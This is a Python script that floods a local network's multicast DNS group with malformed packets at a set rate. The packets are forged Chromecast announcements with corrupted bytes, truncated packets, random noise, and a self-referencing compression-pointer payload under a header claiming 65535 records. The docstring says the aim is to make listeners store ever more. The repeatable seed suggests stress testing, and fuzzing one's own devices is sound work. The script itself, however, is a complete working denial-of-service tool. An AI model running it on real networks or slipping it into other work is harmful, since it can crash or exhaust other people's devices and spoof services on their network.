#!/usr/bin/env python3
"""Sends malformed multicast DNS at a steady rate until it is stopped: flood.py PACKETS-A-SECOND OWN-ADDRESS

Half of the packets are true answers with a few bytes changed, a quarter is cut short, the rest is noise; no two are alike, so that
whoever keeps what he hears keeps ever more. The order is the same in every run. Prints, once it
is asked to stop, how many went off and how many that was a second.
"""
import random
import signal
import socket
import struct
import sys
import time

rate, own = int(sys.argv[1]), sys.argv[2]
dice = random.Random(78)


def name(*labels):
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def record(owner, kind, ttl, data):
    return owner + struct.pack(">HHIH", kind, 0x8001, ttl, len(data)) + data


def answer(number):
    service = name(b"_googlecast", b"_tcp", b"local")
    instance = name(b"Chromecast-%d" % number, b"_googlecast", b"_tcp", b"local")
    host = name(b"host-%d" % number, b"local")
    text = b"".join(bytes([len(t)]) + t for t in (b"id=%032x" % number, b"fn=Rude %d" % number, b"md=Chromecast"))
    rows = [record(service, 12, 120, instance), record(instance, 33, 120, struct.pack(">HHH", 0, 0, 8009) + host),
            record(instance, 16, 120, text), record(host, 1, 120, bytes([192, 168, 78, 66]))]
    return struct.pack(">HHHHHH", 0, 0x8400, 0, len(rows), 0, 0) + b"".join(rows)


def malformed(number):
    packet = bytearray(answer(number))
    sort = dice.random()
    if sort < 0.5:
        for _ in range(dice.randint(1, 6)):
            packet[dice.randrange(len(packet))] = dice.randrange(256)
    elif sort < 0.75:
        del packet[dice.randrange(4, len(packet)):]
    elif sort < 0.9:
        # A name that points at itself, behind a header that promises 65535 records.
        packet = bytearray(struct.pack(">HHHHHH", 0, 0x8400, 0, 0xFFFF, 0xFFFF, 0xFFFF) + b"\xc0\x0c" * dice.randint(1, 300))
    else:
        packet = bytearray(dice.randbytes(dice.randint(1, 1400)))
    return bytes(packet)


out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
out.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
out.bind((own, 5353))
over = []
signal.signal(signal.SIGTERM, lambda *_: over.append(True))
began, made, sent = time.monotonic(), 0, 0
while not over:
    due = int((time.monotonic() - began) * rate)
    while made < due:
        try:
            out.sendto(malformed(made), ("224.0.0.251", 5353))
            sent += 1
        except OSError:
            pass  # The cable is out at this end just now.
        made += 1
    time.sleep(0.005)
print(f"{sent} packets, {sent / (time.monotonic() - began):.0f} a second", flush=True)
